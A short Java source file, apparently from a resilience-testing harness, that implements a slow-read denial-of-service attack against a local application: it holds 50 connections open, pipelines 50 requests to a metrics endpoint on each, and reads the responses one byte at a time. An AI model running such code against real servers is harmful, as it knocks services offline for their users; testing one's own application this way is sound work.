package dev.leantokens.attacks;

import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;

import dev.leantokens.testing.RawHttp;

/** Requests long answers on many connections and reads one byte per second. */
final class SlowReaders implements Attack {

    private static final int CONNECTIONS = 50;
    private static final int REQUESTS = 50;

    @Override
    public void start(Attacker attacker) {
        byte[] requests = "GET /q/metrics HTTP/1.1\r\nHost: localhost\r\n\r\n".repeat(REQUESTS)
                .getBytes(StandardCharsets.US_ASCII);
        attacker.keepEachSecond(CONNECTIONS, RawHttp.ELSEWHERE, attacker.target().port(), socket -> {
            socket.getOutputStream().write(requests);
            attacker.outcomes().sent(REQUESTS);
        }, socket -> {
            InputStream in = socket.getInputStream();
            if (in.available() > 0 && in.read() < 0) {
                throw new IOException("the application has closed the connection");
            }
        });
    }
}
